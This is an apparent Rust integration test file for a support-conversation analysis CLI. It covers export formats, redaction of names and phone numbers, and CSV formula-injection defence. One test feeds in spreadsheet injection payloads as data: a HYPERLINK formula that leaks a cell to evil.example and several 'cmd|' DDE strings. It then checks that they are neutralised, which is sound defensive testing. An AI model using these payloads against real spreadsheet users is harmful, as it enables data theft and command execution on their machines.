use crate::helpers::*;

#[test]
fn export_writes_one_row_per_conversation_in_each_format() {
    let sb = Sandbox::new();
    let file = sb.write("a.csv", to_csv(&conversations(9)));
    let run = sb.analyze(&file);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let id = run.json()["upload_id"].as_str().unwrap().to_string();

    let out = sb.path("results.csv");
    let run = sb.run(&[
        "export",
        "--format",
        "csv",
        "--output",
        out.to_str().unwrap(),
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut reader = csv::Reader::from_path(&out).unwrap();
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        powerpulse::export::CSV_HEADER
    );
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 9);
    assert!(
        rows.iter()
            .all(|r| &r[0] == id.as_str() && &r[11] == "analyzed")
    );
    assert!(
        rows.iter()
            .all(|r| ["positive", "neutral", "negative"].contains(&&r[4]))
    );

    let run = sb.run(&["export", "--format", "json", "--upload", &id]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let v = run.json();
    assert_eq!(v.as_array().unwrap().len(), 9);
    assert!(v[0]["satisfaction_score"].as_u64().is_some());

    let run = sb.run(&["export", "--format", "jsonl"]);
    assert_eq!(run.stdout.lines().count(), 9);
}

#[test]
fn export_of_an_unknown_upload_or_missing_database_is_an_error() {
    let sb = Sandbox::new();
    let run = sb.run(&["export", "--format", "csv"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("no database"), "{}", run.stderr);

    let file = sb.write("a.csv", to_csv(&conversations(1)));
    assert_eq!(sb.analyze(&file).code, 0);
    let run = sb.run(&["export", "--upload", "00000000-0000-0000-0000-000000000001"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("not found"), "{}", run.stderr);
}

#[test]
fn csv_export_neutralises_formulas_and_json_stays_exact() {
    let sb = Sandbox::new();
    let ids = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-42",
        "plain-id",
    ];
    let mut rows = Vec::new();
    for id in ids {
        for (role, text) in [
            ("customer", "=1+1 my bill is wrong"),
            ("agent", "Fixed, sorry."),
        ] {
            rows.push([
                id.to_string(),
                role.to_string(),
                text.to_string(),
                String::new(),
            ]);
        }
    }
    let file = sb.write("hostile.csv", to_csv(&rows));
    let run = sb.analyze(&file);
    assert_eq!(run.code, 0, "{}", run.stderr);

    let run = sb.run(&["export", "--format", "csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let mut exported: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[1].to_string())
        .collect();
    exported.sort();
    let mut expected = vec![
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")".to_string(),
        "'+cmd|' /C calc'!A0".to_string(),
        "'@SUM(1+1)*cmd|' /C calc'!A0".to_string(),
        "'-2+3+cmd|' /C calc'!A0".to_string(),
        "-42".to_string(),
        "plain-id".to_string(),
    ];
    expected.sort();
    assert_eq!(exported, expected, "{}", run.stdout);
    // No cell of the raw text starts a formula (sentiment scores are numbers).
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    for record in reader.records() {
        let record = record.unwrap();
        for (i, cell) in record.iter().enumerate() {
            let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!risky, "column {i}: {cell:?}");
        }
    }

    for format in ["json", "jsonl"] {
        let run = sb.run(&["export", "--format", format]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        let values: Vec<serde_json::Value> = if format == "json" {
            serde_json::from_str(&run.stdout).unwrap()
        } else {
            run.stdout
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect()
        };
        let mut got: Vec<String> = values
            .iter()
            .map(|v| v["conversation_id"].as_str().unwrap().to_string())
            .collect();
        got.sort();
        let mut want: Vec<String> = ids.iter().map(|s| s.to_string()).collect();
        want.sort();
        assert_eq!(got, want, "{format}");
    }
}

/// An export with personal data in its conversation ids, senders and texts.
fn personal_export(sb: &Sandbox) -> std::path::PathBuf {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record([
        "conversation_id",
        "sender",
        "sender_name",
        "message",
        "timestamp",
    ])
    .unwrap();
    for (id, customer, agent) in [
        ("+977 9841234567", "Sita Sharma", "Ramila Khatri"),
        ("chat-2", "Bikash Thapa", "Ramila Khatri"),
        ("chat-3", "Anita Rai", "Dinesh Bista"),
    ] {
        for (role, name, text) in [
            (
                "customer",
                customer,
                "No power since morning, call me on 9801234567",
            ),
            ("agent", agent, "Sorry! A crew is on the way, I am Ramila."),
            ("customer", customer, "Thanks a lot, it works now."),
        ] {
            w.write_record([id, role, name, text, ""]).unwrap();
        }
    }
    sb.write("personal.csv", w.into_inner().unwrap())
}

#[test]
fn a_redacted_export_keeps_the_results_and_leaves_the_personal_data_out() {
    let sb = Sandbox::new();
    let file = personal_export(&sb);
    assert_eq!(sb.analyze(&file).code, 0);

    let plain = sb.run(&["export", "--format", "jsonl"]);
    assert!(plain.stdout.contains("Ramila Khatri") && plain.stdout.contains("9841234567"));
    let run = sb.run(&["export", "--format", "jsonl", "--redact"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let rows: Vec<serde_json::Value> = run
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 3);
    for personal in ["9841234567", "Ramila", "Khatri", "Dinesh", "Sita"] {
        assert!(!run.stdout.contains(personal), "{personal}: {}", run.stdout);
    }
    let field = |i: usize, k: &str| rows[i][k].as_str().unwrap().to_string();
    // The id that was a phone number is a placeholder; the others stay.
    let ids: Vec<String> = (0..3).map(|i| field(i, "conversation_id")).collect();
    assert!(ids.contains(&"<CONVERSATION_1>".to_string()), "{ids:?}");
    assert!(ids.contains(&"chat-2".to_string()), "{ids:?}");
    // Agents are pseudonyms, the same agent the same one.
    let agent_of = |id: &str| {
        let i = ids.iter().position(|x| x == id).unwrap();
        field(i, "agent")
    };
    assert_eq!(agent_of("chat-2"), agent_of("<CONVERSATION_1>"));
    assert_ne!(agent_of("chat-2"), agent_of("chat-3"));
    assert!(agent_of("chat-3").starts_with("<AGENT_"));
    // The results are the unredacted export's.
    let plain_rows: Vec<serde_json::Value> = plain
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    for (a, b) in plain_rows.iter().zip(&rows) {
        assert_eq!(a["sentiment_score"], b["sentiment_score"]);
        assert_eq!(a["summary"], b["summary"]);
    }

    // Beside a running server, the server redacts: the same bytes, in
    // every format.
    let offline: Vec<String> = ["csv", "json", "jsonl"]
        .iter()
        .map(|f| sb.run(&["export", "--redact", "--format", f]).stdout)
        .collect();
    let server = sb.serve(&[]);
    for (format, off) in ["csv", "json", "jsonl"].iter().zip(&offline) {
        let run = sb.run(&["export", "--redact", "--format", format]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        assert_eq!(&run.stdout, off, "{format} through the server");
    }
    server.stop();
}

#[test]
fn redact_preview_prints_what_would_be_sent() {
    let sb = Sandbox::new();
    let file = personal_export(&sb);
    let run = sb.run_with_env(
        &["redact", "--preview", file.to_str().unwrap()],
        &[("POWERPULSE__PRIVACY__REDACT", "on")],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stderr.contains("redaction: on (policy redact-1-"),
        "{}",
        run.stderr
    );
    assert!(
        run.stdout.contains(
            "── chat-2 · redacted: 1 phone, 1 name\nC: No power since morning, call me on <PHONE_1>\nA: Sorry! A crew is on the way, I am <NAME_1>.\nC: Thanks a lot, it works now.\n"
        ),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains("9801234567"));

    let one = sb.run_with_env(
        &[
            "redact",
            "--preview",
            file.to_str().unwrap(),
            "--conversation",
            "chat-3",
            "--json",
        ],
        &[("POWERPULSE__PRIVACY__REDACT", "on")],
    );
    assert_eq!(one.code, 0, "{}", one.stderr);
    let v = one.json();
    assert_eq!(v["conversation_id"], "chat-3");
    assert_eq!(v["redacted"]["phone"], 1);
    assert!(v["transcript"].as_str().unwrap().contains("<PHONE_1>"));

    // The default (auto) against this machine's server: off, and it says so.
    let local = sb.run_with_env(
        &["redact", "--preview", file.to_str().unwrap()],
        &[("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")],
    );
    assert!(local.stderr.contains("redaction: OFF"), "{}", local.stderr);
    assert!(local.stdout.contains("9801234567"));

    let missing = sb.run(&[
        "redact",
        "--preview",
        file.to_str().unwrap(),
        "--conversation",
        "nope",
    ]);
    assert_eq!(missing.code, 1);
    assert!(
        missing.stderr.contains("no conversation \"nope\""),
        "{}",
        missing.stderr
    );
}
